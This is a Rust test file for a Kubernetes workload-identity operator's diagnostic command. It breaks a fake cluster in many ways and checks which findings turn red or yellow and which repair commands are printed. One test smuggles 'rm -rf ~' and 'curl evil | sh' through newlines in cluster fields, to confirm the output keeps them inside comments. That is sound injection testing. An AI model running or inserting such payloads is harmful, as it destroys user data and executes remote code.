@@ -1,0 +1,586 @@
+//! A healthy cluster of a fake API server, and what each fault in it turns.
+
+use std::collections::BTreeSet;
+
+use jiff::{SignedDuration, Timestamp};
+use k8s_openapi::api::admissionregistration::v1::{MutatingWebhookConfiguration, ValidatingAdmissionPolicyBinding};
+use k8s_openapi::api::apps::v1::Deployment;
+use k8s_openapi::api::coordination::v1::Lease;
+use k8s_openapi::api::policy::v1::PodDisruptionBudget;
+use k8s_openapi::apiextensions_apiserver::pkg::apis::apiextensions::v1::CustomResourceDefinition;
+use kube::Resource;
+use serde::de::DeserializeOwned;
+use serde::{Deserialize, Serialize};
+use serde_json::{Value, json};
+use wio_api::WorkloadIdentityEffectivePolicy;
+use wio_testkit::fixtures::binding;
+use wio_testkit::{Effect, FakeApiServer, Matcher, ResourceType};
+
+use crate::Session;
+use crate::output::tree::Node;
+
+use super::checks::{OURS, TABLE};
+use super::finding::{Examination, Finding, Level};
+use super::{commands, examine, gather, trees};
+
+const NAMESPACE: &str = "workload-identity-system";
+const CLIENT_ID: &str = "4b65e8cb-da6f-4b8e-9399-17dfd09b7846";
+const NODE_GROUP: &str = "/subscriptions/6f2e1c1d-52a4-4d0c-8d2f-0c6a2d0b7a11/resourceGroups/MC_shop";
+
+/// The objects of a file of `config`.
+fn config(file: &str) -> Vec<Value> {
+    let path = format!("{}/../../config/{file}", env!("CARGO_MANIFEST_DIR"));
+    let text = std::fs::read_to_string(path).unwrap();
+    let documents = serde_yaml_ng::Deserializer::from_str(&text);
+    documents
+        .map(|document| Value::deserialize(document).unwrap())
+        .collect()
+}
+
+fn register(server: &FakeApiServer) {
+    for (group, kind, plural) in [
+        ("apps", "Deployment", "deployments"),
+        ("policy", "PodDisruptionBudget", "poddisruptionbudgets"),
+        ("discovery.k8s.io", "EndpointSlice", "endpointslices"),
+        ("", "ConfigMap", "configmaps"),
+        ("", "Service", "services"),
+        ("rbac.authorization.k8s.io", "Role", "roles"),
+        ("rbac.authorization.k8s.io", "RoleBinding", "rolebindings"),
+    ] {
+        server.register(ResourceType::builtin(group, "v1", kind, plural));
+    }
+    for (group, kind, plural) in [
+        ("", "Node", "nodes"),
+        ("rbac.authorization.k8s.io", "ClusterRole", "clusterroles"),
+        ("rbac.authorization.k8s.io", "ClusterRoleBinding", "clusterrolebindings"),
+        (
+            "admissionregistration.k8s.io",
+            "MutatingWebhookConfiguration",
+            "mutatingwebhookconfigurations",
+        ),
+        (
+            "admissionregistration.k8s.io",
+            "ValidatingAdmissionPolicy",
+            "validatingadmissionpolicies",
+        ),
+        (
+            "admissionregistration.k8s.io",
+            "ValidatingAdmissionPolicyBinding",
+            "validatingadmissionpolicybindings",
+        ),
+    ] {
+        server.register(ResourceType::builtin(group, "v1", kind, plural).cluster_scoped());
+    }
+}
+
+fn definition(mut definition: CustomResourceDefinition) -> Value {
+    definition.metadata.annotations = Some(
+        [
+            ("kustomize.toolkit.fluxcd.io/prune", "disabled"),
+            ("argocd.argoproj.io/sync-options", "Prune=false,Delete=false"),
+        ]
+        .map(|(key, value)| (key.to_owned(), value.to_owned()))
+        .into(),
+    );
+    let mut definition = json!(definition);
+    definition["status"] = json!({
+        "acceptedNames": { "kind": "", "plural": "" }, "storedVersions": [],
+        "conditions": [{ "type": "Established", "status": "True", "reason": "", "message": "", "lastTransitionTime": "2026-01-01T00:00:00Z" }],
+    });
+    definition
+}
+
+fn operator_pod(name: &str) -> Value {
+    json!({
+        "apiVersion": "v1", "kind": "Pod",
+        "metadata": { "namespace": NAMESPACE, "name": name, "labels": { "app.kubernetes.io/name": "workload-identity-operator" } },
+        "spec": { "containers": [{ "name": "operator", "env": [
+            { "name": "AZURE_CLIENT_ID", "value": CLIENT_ID },
+            { "name": "AZURE_FEDERATED_TOKEN_FILE", "value": "/var/run/secrets/azure/tokens/azure-identity-token" },
+        ] }] },
+    })
+}
+
+/// The operator's own objects but its Deployment, and a node.
+fn own_parts() -> Vec<Value> {
+    let now = Timestamp::now();
+    let group = "/subscriptions/6f2e1c1d-52a4-4d0c-8d2f-0c6a2d0b7a11/resourceGroups/workload-identities";
+    vec![
+        json!({ "apiVersion": "v1", "kind": "ConfigMap",
+            "metadata": { "namespace": NAMESPACE, "name": "workload-identity-operator-settings" },
+            "data": { "WIO_CLIENT_ID": CLIENT_ID } }),
+        json!({ "apiVersion": "coordination.k8s.io/v1", "kind": "Lease",
+            "metadata": { "namespace": NAMESPACE, "name": "workload-identity-operator" },
+            "spec": { "holderIdentity": "one_1", "leaseDurationSeconds": 30, "renewTime": format!("{now:.6}") } }),
+        json!({ "apiVersion": "workloadidentity.dev/v1alpha1", "kind": "WorkloadIdentityEffectivePolicy",
+            "metadata": { "name": "cluster" },
+            "spec": {
+                "subscriptionId": "6f2e1c1d-52a4-4d0c-8d2f-0c6a2d0b7a11", "resourceGroup": "workload-identities",
+                "location": "westeurope", "requirePolicy": false, "protected": [], "lockedRoles": [],
+                "rolesLockedAtIdentities": [], "identityScopes": [], "policies": [], "problems": [], "vanished": [],
+                "accepted": { "resourceGroupId": group, "location": "westeurope", "protectedResourceGroups": [NODE_GROUP] },
+            } }),
+        json!({ "apiVersion": "v1", "kind": "Node", "metadata": { "name": "node" },
+            "spec": { "providerID": format!("azure://{}/providers/Microsoft.Compute/virtualMachineScaleSets/a/virtualMachines/0", NODE_GROUP.to_lowercase()) } }),
+    ]
+}
+
+/// The pod webhook, as its chart installs it.
+fn webhook_parts() -> Vec<Value> {
+    vec![
+        json!({ "apiVersion": "admissionregistration.k8s.io/v1", "kind": "MutatingWebhookConfiguration",
+            "metadata": { "name": "azure-wi-webhook-mutating-webhook-configuration" },
+            "webhooks": [{ "name": "mutation.azure-workload-identity.io", "failurePolicy": "Fail", "admissionReviewVersions": ["v1"], "sideEffects": "None",
+                "clientConfig": { "service": { "namespace": "kube-system", "name": "azure-wi-webhook-webhook-service" } } }] }),
+        json!({ "apiVersion": "v1", "kind": "Service",
+            "metadata": { "namespace": "kube-system", "name": "azure-wi-webhook-webhook-service" },
+            "spec": { "selector": { "azure-workload-identity.io/system": "true" } } }),
+        json!({ "apiVersion": "discovery.k8s.io/v1", "kind": "EndpointSlice", "addressType": "IPv4",
+            "metadata": { "namespace": "kube-system", "name": "a", "labels": { "kubernetes.io/service-name": "azure-wi-webhook-webhook-service" } },
+            "endpoints": [{ "addresses": ["10.0.0.1"], "conditions": { "ready": true } }, { "addresses": ["10.0.0.2"] }] }),
+        json!({ "apiVersion": "v1", "kind": "Pod",
+            "metadata": { "namespace": "kube-system", "name": "hook", "labels": { "azure-workload-identity.io/system": "true" } },
+            "spec": { "containers": [{ "name": "manager", "image": "mcr.microsoft.com/oss/azure/workload-identity/webhook:v1.6.0" }] } }),
+    ]
+}
+
+/// A cluster in which all is well: what `config` installs, running, and the pod webhook.
+fn healthy() -> FakeApiServer {
+    let server = FakeApiServer::new();
+    register(&server);
+    for ours in OURS.iter() {
+        let name = ours.metadata.name.as_ref().unwrap();
+        server.delete::<CustomResourceDefinition>("", name);
+        server.seed(definition(ours.clone()));
+    }
+    for namespace in [NAMESPACE, "shop"] {
+        server.create_namespace(namespace);
+    }
+    for file in [
+        "rbac/role.yaml",
+        "rbac/role_binding.yaml",
+        "admission/policy.yaml",
+        "admission/record.yaml",
+        "admission/binding.yaml",
+        "manager/pod_disruption_budget.yaml",
+    ] {
+        for object in config(file) {
+            server.seed(object);
+        }
+    }
+    let mut deployment = config("manager/deployment.yaml").remove(0);
+    deployment["status"] = json!({ "readyReplicas": 2, "replicas": 2 });
+    deployment["spec"]["template"]["spec"]["containers"][0]["image"] =
+        json!(format!("registry.example:5000/operator:{}", env!("CARGO_PKG_VERSION")));
+    server.seed(deployment);
+    server.seed(operator_pod("one"));
+    server.seed(operator_pod("two"));
+    for object in own_parts().into_iter().chain(webhook_parts()) {
+        server.seed(object);
+    }
+    server.seed(json!(
+        binding("shop", "orders").managed().service_account("orders").build()
+    ));
+    set_binding_status(&server, "True", "Succeeded", "https://issuer.example/");
+    server.set_discovery(
+        json!({ "issuer": "https://issuer.example/", "id_token_signing_alg_values_supported": ["RS256"] }),
+    );
+    server
+}
+
+fn set_binding_status(server: &FakeApiServer, ready: &str, reason: &str, issuer: &str) {
+    let status = json!({
+        "apiVersion": "workloadidentity.dev/v1alpha1", "kind": "WorkloadIdentityBinding",
+        "metadata": { "namespace": "shop", "name": "orders" },
+        "status": { "issuer": issuer, "conditions": [{
+            "type": "Ready", "status": ready, "reason": reason, "message": "as it is", "lastTransitionTime": "2026-01-01T00:00:00Z",
+        }] },
+    });
+    server.apply_status_as("operator", status, true).unwrap();
+}
+
+async fn examined(server: &FakeApiServer) -> Examination {
+    let session = Session {
+        client: server.client(),
+        namespace: "shop".to_owned(),
+    };
+    examine(&gather(&session).await)
+}
+
+fn told(trees: &[Node]) -> String {
+    let mut out = anstream::StripStream::new(Vec::new());
+    for tree in trees {
+        tree.write(&mut out).unwrap();
+    }
+    String::from_utf8(out.into_inner()).unwrap()
+}
+
+fn of<'a>(found: &'a Examination, id: &str) -> &'a Finding {
+    found.checks.iter().find(|one| one.id == id).unwrap()
+}
+
+/// A grant of a role to a subject.
+fn grant(role: &str, kind: &str, name: &str) -> Value {
+    json!({
+        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": { "name": "too wide" },
+        "roleRef": { "apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": role },
+        "subjects": [{ "apiGroup": "rbac.authorization.k8s.io", "kind": kind, "name": name }],
+    })
+}
+
+#[tokio::test]
+async fn a_cluster_in_which_all_is_well_shows_neither_red_nor_yellow() {
+    let server = healthy();
+    let found = examined(&server).await;
+    assert!(found.well && found.yellow == 0, "{}", told(&trees(&found)));
+    // The fake API server does not answer who somebody is or may do, and carries no date.
+    let unseen: BTreeSet<&str> = found
+        .checks
+        .iter()
+        .filter(|one| one.level == Level::NotLookedAt)
+        .map(|one| one.id)
+        .collect();
+    assert_eq!(unseen, BTreeSet::from(["caller", "operator-rights", "clock"]));
+    let asked = |request: &wio_testkit::ApiRequest| request.resource.ends_with("reviews");
+    assert!(
+        server.writes().iter().all(asked),
+        "a question changes nothing: {:?}",
+        server.writes()
+    );
+}
+
+/// What a fault turns, and a part of a command that mends it.
+struct Turn {
+    happens: fn(&FakeApiServer),
+    turns: &'static [(&'static str, Level)],
+    mends: &'static str,
+}
+
+const fn turn(happens: fn(&FakeApiServer), turns: &'static [(&'static str, Level)], mends: &'static str) -> Turn {
+    Turn { happens, turns, mends }
+}
+
+/// Changes an object of a type.
+fn change<K>(server: &FakeApiServer, namespace: &str, name: &str, change: impl FnOnce(&mut K))
+where
+    K: Resource<DynamicType = ()> + Serialize + DeserializeOwned,
+{
+    server.edit::<K>(namespace, name, |object| {
+        let mut typed: K = serde_json::from_value(object.clone()).unwrap();
+        change(&mut typed);
+        *object = json!(typed);
+    });
+}
+
+fn effective(server: &FakeApiServer, edit: impl FnOnce(&mut WorkloadIdentityEffectivePolicy)) {
+    change(server, "", "cluster", edit);
+}
+
+const TURNS: &[Turn] = {
+    use Level::{NotLookedAt, Red, Yellow};
+    &[
+        turn(
+            |server| server.delete::<CustomResourceDefinition>("", "workloadidentitypolicies.workloadidentity.dev"),
+            &[("definitions", Red)],
+            "--kustomize config/crd",
+        ),
+        turn(
+            |server| {
+                change(
+                    server,
+                    "",
+                    "workloadidentitybindings.workloadidentity.dev",
+                    |one: &mut CustomResourceDefinition| {
+                        one.metadata.annotations = None;
+                    },
+                );
+            },
+            &[("definitions-kept", Yellow)],
+            "argocd.argoproj.io/sync-options=Prune=false,Delete=false",
+        ),
+        turn(
+            |server| {
+                change(
+                    server,
+                    "",
+                    "workloadidentitybindings.workloadidentity.dev",
+                    |one: &mut CustomResourceDefinition| {
+                        one.spec.versions[0].schema = None;
+                    },
+                );
+            },
+            &[("definitions-version", Yellow)],
+            "--kustomize config/crd",
+        ),
+        turn(
+            |server| {
+                change(
+                    server,
+                    NAMESPACE,
+                    "workload-identity-operator",
+                    |one: &mut Deployment| {
+                        one.spec.as_mut().unwrap().replicas = Some(0);
+                    },
+                );
+            },
+            &[("operator", Red)],
+            "kubectl scale deployment workload-identity-operator --namespace workload-identity-system --replicas 2",
+        ),
+        turn(
+            |server| server.delete::<Deployment>(NAMESPACE, "workload-identity-operator"),
+            &[
+                ("operator", Red),
+                ("operator-version", NotLookedAt),
+                ("operator-identity", NotLookedAt),
+                ("operator-disruptions", NotLookedAt),
+            ],
+            "kubectl wib bootstrap",
+        ),
+        turn(
+            |server| {
+                let mut bare = operator_pod("bare");
+                bare["spec"]["containers"][0]["env"] = json!([]);
+                server.seed(bare);
+            },
+            &[("operator-identity", Red)],
+            "kubectl rollout restart deployment workload-identity-operator",
+        ),
+        turn(
+            |server| {
+                let mut other = operator_pod("other");
+                other["spec"]["containers"][0]["env"][0]["value"] = json!("somebody else");
+                server.seed(other);
+            },
+            &[("operator-identity", Red)],
+            "azure.workload.identity/client-id=4b65e8cb-da6f-4b8e-9399-17dfd09b7846",
+        ),
+        turn(
+            |server| {
+                change(
+                    server,
+                    NAMESPACE,
+                    "workload-identity-operator",
+                    |one: &mut Deployment| {
+                        one.metadata
+                            .labels
+                            .as_mut()
+                            .unwrap()
+                            .insert("app.kubernetes.io/version".to_owned(), "0.0.9".to_owned());
+                    },
+                );
+            },
+            &[("operator-version", Yellow)],
+            "helm upgrade",
+        ),
+        turn(
+            |server| server.delete::<PodDisruptionBudget>(NAMESPACE, "workload-identity-operator"),
+            &[("operator-disruptions", Yellow)],
+            "pod_disruption_budget.yaml",
+        ),
+        turn(
+            |server| {
+                change(server, NAMESPACE, "workload-identity-operator", |one: &mut Lease| {
+                    let renewed = &mut one.spec.as_mut().unwrap().renew_time.as_mut().unwrap().0;
+                    *renewed -= SignedDuration::from_mins(5);
+                });
+            },
+            &[("lease", Red)],
+            "kubectl get lease workload-identity-operator --namespace workload-identity-system",
+        ),
+        turn(
+            |server| server.delete::<ValidatingAdmissionPolicyBinding>("", "workload-identity-operator"),
+            &[("admission", Yellow)],
+            "--kustomize config/admission",
+        ),
+        turn(
+            |server| server.delete::<WorkloadIdentityEffectivePolicy>("", "cluster"),
+            &[
+                ("effective-policy", Red),
+                ("policy-problems", NotLookedAt),
+                ("policies-vanished", NotLookedAt),
+                ("settings-held", NotLookedAt),
+                ("node-group", NotLookedAt),
+            ],
+            "kubectl logs",
+        ),
+        turn(
+            |server| effective(server, |one| one.spec.problems.push("policy: spec.roles[0]".to_owned())),
+            &[("policy-problems", Yellow)],
+            "kubectl describe workloadidentitypolicies",
+        ),
+        turn(
+            |server| effective(server, |one| one.spec.vanished.push("platform".to_owned())),
+            &[("policies-vanished", Yellow)],
+            "MassDisappearance",
+        ),
+        turn(
+            |server| effective(server, |one| one.spec.accepted.location = "northeurope".to_owned()),
+            &[("settings-held", Yellow)],
+            "MassDisappearance",
+        ),
+        turn(
+            |server| effective(server, |one| one.spec.accepted.protected_resource_groups.clear()),
+            &[("node-group", Yellow)],
+            "'azure.protectedResourceGroups={/subscriptions/",
+        ),
+        turn(
+            |server| {
+                server.seed(json!({
+                    "apiVersion": "workloadidentity.dev/v1alpha1", "kind": "WorkloadIdentityPolicy",
+                    "metadata": { "name": "unseen" }, "spec": { "namespaces": { "names": ["shop"] } },
+                }));
+            },
+            &[("policies", Yellow)],
+            "kubectl describe workloadidentitypolicies",
+        ),
+        turn(
+            |server| set_binding_status(server, "False", "ScopeLocked", "https://issuer.example/"),
+            &[("bindings", Yellow)],
+            "kubectl wib status orders --namespace shop",
+        ),
+        turn(
+            |server| set_binding_status(server, "True", "Succeeded", "https://issuer.example"),
+            &[("issuer-of-bindings", Red)],
+            "kubectl wib status --all-namespaces",
+        ),
+        turn(
+            |server| {
+                server.seed(grant(
+                    "workload-identity-operator-edit",
+                    "Group",
+                    "system:authenticated",
+                ));
+            },
+            &[("binding-writers", Red)],
+            "kubectl delete 'clusterrolebinding/too wide'",
+        ),
+        turn(
+            |server| {
+                server.seed(grant("workload-identity-operator", "User", "system:anonymous"));
+            },
+            // The record is kept by admission.
+            &[("binding-writers", Red), ("policy-writers", Red)],
+            "kubectl delete 'clusterrolebinding/too wide'",
+        ),
+        turn(
+            |server| {
+                server.delete::<MutatingWebhookConfiguration>("", "azure-wi-webhook-mutating-webhook-configuration");
+            },
+            &[
+                ("webhook", Red),
+                ("webhook-pods", NotLookedAt),
+                ("webhook-version", NotLookedAt),
+            ],
+            "--enable-workload-identity",
+        ),
+        turn(
+            |server| {
+                change(
+                    server,
+                    "",
+                    "azure-wi-webhook-mutating-webhook-configuration",
+                    |one: &mut MutatingWebhookConfiguration| {
+                        one.webhooks.as_mut().unwrap()[0].failure_policy = Some("Ignore".to_owned());
+                    },
+                );
+            },
+            &[("webhook", Yellow)],
+            "kubectl get mutatingwebhookconfiguration",
+        ),
+        turn(
+            |server| {
+                server.set_discovery(json!({
+                    "issuer": "https://kubernetes.default.svc.cluster.local", "id_token_signing_alg_values_supported": ["RS256"],
+                }));
+            },
+            &[("issuer", Red), ("issuer-of-bindings", Red)],
+            "--enable-oidc-issuer",
+        ),
+        turn(
+            |server| {
+                server.set_discovery(
+                    json!({ "issuer": "https://issuer.example/", "id_token_signing_alg_values_supported": ["ES256"] }),
+                );
+            },
+            &[("issuer", Red)],
+            "kubectl get --raw /.well-known/openid-configuration",
+        ),
+        turn(
+            |server| {
+                server.seed(json!({
+                    "apiVersion": "apiextensions.k8s.io/v1", "kind": "CustomResourceDefinition",
+                    "metadata": { "name": "azureidentities.aadpodidentity.k8s.io" },
+                    "spec": { "group": "aadpodidentity.k8s.io", "scope": "Namespaced", "versions": [], "names": { "kind": "AzureIdentity", "plural": "azureidentities" } },
+                }));
+            },
+            &[("pod-identity", Yellow)],
+            "kubectl get azureidentities",
+        ),
+        turn(
+            |server| {
+                let forbidden = Effect::status(403, "Forbidden", "you may not");
+                server.inject(Matcher::any().resource("clusterroles"), forbidden);
+            },
+            &[
+                ("binding-writers", NotLookedAt),
+                ("policy-writers", NotLookedAt),
+                ("status-writers", NotLookedAt),
+                ("pod-creators", NotLookedAt),
+            ],
+            "",
+        ),
+    ]
+};
+
+#[tokio::test]
+async fn each_fault_turns_its_own_lines_and_is_mended_by_a_command() {
+    let before = examined(&healthy()).await;
+    for (number, Turn { happens, turns, mends }) in TURNS.iter().enumerate() {
+        let server = healthy();
+        happens(&server);
+        let found = examined(&server).await;
+        let story = told(&trees(&found));
+        let turned: BTreeSet<&str> = (found.checks.iter().zip(&before.checks))
+            .filter(|(now, before)| now.level != before.level)
+            .map(|(now, _)| now.id)
+            .collect();
+        let expected: BTreeSet<&str> = turns.iter().map(|(id, _)| *id).collect();
+        assert_eq!(turned, expected, "fault {number}\n{story}");
+        for (id, level) in *turns {
+            assert_eq!(of(&found, id).level, *level, "fault {number}: {id}\n{story}");
+        }
+        assert_eq!(found.well, turns.iter().all(|(_, level)| *level != Level::Red));
+        let mut out = Vec::new();
+        commands(&found, &mut out).unwrap();
+        let out = String::from_utf8(out).unwrap();
+        assert!(out.contains(mends), "fault {number}: {mends} is not in\n{out}");
+    }
+}
+
+/// What a tenant calls something stands in comments and commands that people paste into a shell.
+#[tokio::test]
+async fn what_a_cluster_says_stays_in_its_comment_and_its_word() {
+    let server = healthy();
+    effective(&server, |one| one.spec.vanished.push("a\nrm -rf ~".to_owned()));
+    server.set_discovery(
+        json!({ "issuer": "https://a.example/\ncurl evil | sh", "id_token_signing_alg_values_supported": ["RS256"] }),
+    );
+    let mut out = Vec::new();
+    commands(&examined(&server).await, &mut out).unwrap();
+    let out = String::from_utf8(out).unwrap();
+    assert!(out.contains("curl evil"), "{out}");
+    for line in out.lines() {
+        assert!(line.starts_with("# ") || line.starts_with("kubectl "), "{line:?}");
+    }
+}
+
+#[test]
+fn each_check_is_explained_under_its_own_heading() {
+    let page = std::fs::read_to_string(format!("{}/../../docs/doctor.md", env!("CARGO_MANIFEST_DIR"))).unwrap();
+    let headings: Vec<&str> = page.lines().filter_map(|line| line.strip_prefix("### ")).collect();
+    let checks: Vec<&str> = TABLE.iter().map(|check| check.id).collect();
+    assert_eq!(
+        headings, checks,
+        "docs/doctor.md has a heading for each check, in their order"
+    );
+}
